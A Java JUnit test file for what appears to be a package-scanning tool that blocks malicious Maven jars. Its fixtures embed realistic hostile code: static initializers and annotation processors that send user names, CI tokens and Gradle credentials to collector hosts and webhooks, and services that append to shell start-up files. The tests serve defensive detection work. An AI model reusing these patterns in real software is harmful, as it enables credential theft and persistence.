package dev.gatehouse.policy.replicas;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import dev.gatehouse.policy.Decision;
import dev.gatehouse.policy.Ecosystem;
import java.io.IOException;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Jars whose entry points beacon to out-of-band hosts or plant code that runs later: the shapes of the
 * dependency-confusion probes published to Maven Central and of stealers that persist through shell start-up
 * files and CI workflows, in variants that differ the way real samples do (split constants, builders,
 * helper methods, DNS instead of HTTP). Every jar is compiled from source text by the test and never loaded;
 * the out-of-band hosts are the collectors' public names, as string constants, and the commands are {@code
 * echo}.
 */
class JvmReplicasTest {
  @TempDir Path tmp;

  private Replica judge(JarFixture.Builder jar, String name) throws IOException {
    return Replica.judge(jar.build(tmp), ArtifactKind.JAR, Ecosystem.MAVEN, name, "1.0.0");
  }

  private Replica judge(JarFixture.Builder jar) throws IOException {
    return judge(jar, "com.example.fixture:fixture");
  }

  /** A class whose static initializer runs {@code body}, with a helper that opens a URL. */
  private static JarFixture.Builder initializer(String body) {
    return JarFixture.builder().javaSource("fixture/Probe", """
        package fixture;
        import java.io.*;
        import java.net.*;
        import java.net.http.*;
        public class Probe {
          static {
            try {
              %s
            } catch (Exception ignored) { }
          }
          static void get(String address) throws IOException {
            new URL(address).openStream().close();
          }
          static String who() { return System.getProperty("user.name") + "." + System.getProperty("os.name"); }
        }
        """.formatted(body));
  }

  static Stream<Named<JarFixture.Builder>> initializerBeacons() {
    return Stream.of(
        Named.of("user name in the path of an interactsh URL",
            initializer("new URL(\"https://c0ffee.oast.fun/\" + who()).openStream().close();")),
        Named.of("host split across local variables",
            initializer("String a = \"https://\"; String b = \".oa\"; String c = \"st.live/\";"
                + " new URL(a + who() + b + c).openStream().close();")),
        Named.of("host assembled in a StringBuilder",
            initializer("StringBuilder u = new StringBuilder(\"http\").append(\"s://\").append(who());"
                + " u.append(\".burpcollab\").append(\"orator.net/\");"
                + " HttpURLConnection c = (HttpURLConnection) new URL(u.toString()).openConnection();"
                + " c.getResponseCode();")),
        Named.of("helper method given the address", initializer("get(\"https://x.interact.sh/p?h=\" + who());")),
        Named.of("DNS lookup of a subdomain carrying the user name",
            initializer("InetAddress.getByName(who() + \".d.oast.me\");")),
        Named.of("java.net.http client to a raw address",
            initializer("HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(\"http://198.51.100.23:8000/\""
                + " + who())).build(), HttpResponse.BodyHandlers.discarding());")));
  }

  @ParameterizedTest(name = "static initializer beacon to an out-of-band host: {0}")
  @MethodSource("initializerBeacons")
  void staticInitializerBeaconsAreHeld(JarFixture.Builder jar) throws Exception {
    Replica replica = judge(jar).isStopped(Trigger.STATIC_INITIALIZER, Capability.NETWORK);
    assertThat(replica.findings()).anySatisfy(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.summary()).contains("out-of-band host");
    });
    assertThat(replica.verdict().rule()).isEqualTo("critical-finding");
  }

  private static Named<JarFixture.Builder> driver(String name, String body) {
    return Named.of(name, JarFixture.builder().service("java.sql.Driver", "fixture.Driver")
        .javaSource("fixture/Driver", """
            package fixture;
            import java.io.*;
            import java.nio.file.*;
            public class Driver {
              static {
                try {
                  String home = System.getProperty("user.home");
                  %s
                } catch (IOException ignored) { }
              }
              static void plant(File file, String line) throws IOException {
                try (Writer w = new FileWriter(file, true)) {
                  w.write(line);
                }
              }
            }
            """.formatted(body)));
  }

  static Stream<Named<JarFixture.Builder>> persistingServices() {
    return Stream.of(
        driver("FileWriter appending to ~/.bashrc",
            "try (Writer w = new FileWriter(new File(home, \".bashrc\"), true)) { w.write(\"echo hi\\n\"); }"),
        driver("Files.writeString to ~/.zshrc",
            "Files.writeString(Path.of(home, \".zshrc\"), \"echo hi\\n\", StandardOpenOption.APPEND);"),
        driver("path built by concatenation", "String f = home + \"/.pro\"; String g = \"file\";"
            + " Files.write(Path.of(f + g), \"echo hi\\n\".getBytes(), StandardOpenOption.APPEND);"),
        driver("helper method given the file", "plant(new File(home, \".bash_profile\"), \"echo hi\\n\");"),
        driver("a CI workflow in the project being built",
            "Files.writeString(Path.of(\".github\", \"workflows\", \"ci-cache.yml\"), \"on: push\\n\");"));
  }

  @ParameterizedTest(name = "service registration writing to a shell rc file: {0}")
  @MethodSource("persistingServices")
  void servicesThatPlantCodeThatRunsLaterAreHeld(JarFixture.Builder jar) throws Exception {
    Replica replica = judge(jar).isStopped(Trigger.SERVICE_REGISTRATION, Capability.FILESYSTEM_WRITE);
    assertThat(replica.findings()).anySatisfy(f -> {
      assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
      assertThat(f.summary()).contains("writes a file that runs later");
    });
  }

  private static Named<JarFixture.Builder> processor(String name, String init) {
    return Named.of(name, JarFixture.builder().service("javax.annotation.processing.Processor", "fixture.apt.Gen")
        .javaSource("fixture/apt/Gen", """
            package fixture.apt;
            import java.io.*;
            import java.net.*;
            import java.util.Set;
            import javax.annotation.processing.*;
            import javax.lang.model.element.TypeElement;
            public class Gen extends AbstractProcessor {
              @Override public synchronized void init(ProcessingEnvironment env) {
                super.init(env);
                try {
                  String token = System.getenv("CI_JOB_TOKEN");
                  %s
                } catch (IOException ignored) { }
              }
              static void post(String target, String body) throws IOException {
                HttpURLConnection c = (HttpURLConnection) new URL(target).openConnection();
                c.setRequestMethod("POST");
                c.setDoOutput(true);
                try (OutputStream out = c.getOutputStream()) {
                  out.write(body.getBytes());
                }
              }
              @Override public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
                return false;
              }
            }
            """.formatted(init)));
  }

  static Stream<Named<JarFixture.Builder>> exfiltratingProcessors() {
    return Stream.of(
        processor("POST to webhook.site", "post(\"https://webhook.site/0000-1111\", token);"),
        processor("Discord webhook", "post(\"https://discord.com/api/webhooks/1/abc\", \"{\\\"content\\\":\\\"\" + token + \"\\\"}\");"),
        processor("Telegram bot API with the URL built in place",
            "String base = \"https://api.tele\"; String rest = \"gram.org/bot1:x/sendMessage?text=\";"
                + " new URL(base + rest + token).openStream().close();"),
        processor("pipedream collector over a raw socket",
            "try (Socket s = new Socket(\"eo1.m.pipedream.net\", 443)) { s.getOutputStream().write(token.getBytes()); }"));
  }

  /**
   * Annotation processors are build-time code and held for that alone; these are held even under a name on
   * the trusted list, which is what a hijacked processor would be published as.
   */
  @ParameterizedTest(name = "annotation processor exfiltrating to a webhook: {0}")
  @MethodSource("exfiltratingProcessors")
  void processorsThatPostToCollectorsAreHeldEvenWhenTrusted(JarFixture.Builder jar) throws Exception {
    Replica replica = judge(jar, "org.springframework.boot:spring-boot-configuration-processor")
        .isStopped(Trigger.ANNOTATION_PROCESSOR, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    assertThat(replica.verdict().rule()).isEqualTo("critical-finding");
  }

  private static JarFixture.Builder gradlePlugin(String apply) {
    return JarFixture.builder()
        .resource("META-INF/gradle-plugins/org.springframework.boot.properties",
            "implementation-class=fixture.gradle.BootPlugin\n")
        .javaSource("fixture/gradle/BootPlugin", """
            package fixture.gradle;
            import java.io.*;
            import java.net.*;
            import java.nio.file.*;
            public class BootPlugin {
              public void apply(Object project) {
                try {
                  %s
                } catch (IOException ignored) { }
              }
            }
            """.formatted(apply));
  }

  /** A hijacked release of a trusted Gradle plugin that posts the build's Gradle credentials: trust does not lift it. */
  @Test
  void aTrustedGradlePluginThatPostsGradleCredentialsIsBlocked() throws Exception {
    JarFixture.Builder jar = gradlePlugin("""
        byte[] secrets = Files.readAllBytes(Path.of(System.getProperty("user.home"), ".gradle", "gradle.properties"));
        HttpURLConnection c = (HttpURLConnection) new URL("https://webhook.site/0000").openConnection();
        c.setDoOutput(true);
        c.getOutputStream().write(secrets);
        """);
    judge(jar, "org.springframework.boot:spring-boot-gradle-plugin")
        .isStopped(Trigger.BUILD_PLUGIN, Capability.CREDENTIAL_READ, Capability.NETWORK).isBlocked();
  }

  @Test
  void anUntrustedGradlePluginIsHeldAsBuildTimeCodeAndATrustedOneThatReachesNothingIsNot() throws Exception {
    JarFixture.Builder quiet = gradlePlugin("if (project == null) throw new IOException(\"no project\");");
    Replica untrusted = judge(quiet, "com.example.fixture:fixture-gradle-plugin");
    assertThat(untrusted.verdict().decision()).isEqualTo(Decision.QUARANTINE);
    assertThat(untrusted.verdict().rule()).isEqualTo("build-time-code");
    assertThat(judge(quiet, "org.springframework.boot:spring-boot-gradle-plugin").verdict().rule()).isEqualTo("trusted");
  }

  @Test
  void aLibraryWhoseStaticInitializerReadsItsOwnResourceIsAllowed() throws Exception {
    JarFixture.Builder jar = JarFixture.builder().javaSource("fixture/Defaults", """
        package fixture;
        import java.io.*;
        import java.util.Properties;
        public class Defaults {
          static final Properties VALUES = new Properties();
          static {
            try (InputStream in = Defaults.class.getResourceAsStream("/fixture/defaults.properties")) {
              VALUES.load(in);
            } catch (IOException e) {
              throw new ExceptionInInitializerError(e);
            }
          }
        }
        """).resource("fixture/defaults.properties", "endpoint=https://hooks.example.invalid/\n");
    judge(jar).isAllowed();
  }

  /** A webhook client names its service's host, as Discord and Slack clients do; only its methods call it. */
  @Test
  void aClientLibraryWhoseMethodsCallAWebhookHostIsAllowed() throws Exception {
    JarFixture.Builder jar = JarFixture.builder().service("fixture.spi.Notifier", "fixture.DiscordNotifier")
        .javaSource("fixture/spi/Notifier", """
            package fixture.spi;
            public interface Notifier { void send(String text) throws java.io.IOException; }
            """)
        .javaSource("fixture/DiscordNotifier", """
            package fixture;
            import java.io.*;
            import java.net.*;
            public class DiscordNotifier implements fixture.spi.Notifier {
              static final String API = "https://discord.com/api/webhooks/";
              private final String hook;
              public DiscordNotifier() { this.hook = System.getenv("DISCORD_HOOK"); }
              @Override public void send(String text) throws IOException {
                HttpURLConnection c = (HttpURLConnection) new URL(API + hook).openConnection();
                c.setDoOutput(true);
                try (OutputStream out = c.getOutputStream()) {
                  out.write(text.getBytes());
                }
              }
            }
            """);
    Replica replica = judge(jar).isAllowed();
    assertThat(replica.verdict().decision()).isEqualTo(Decision.ALLOW);
  }
}
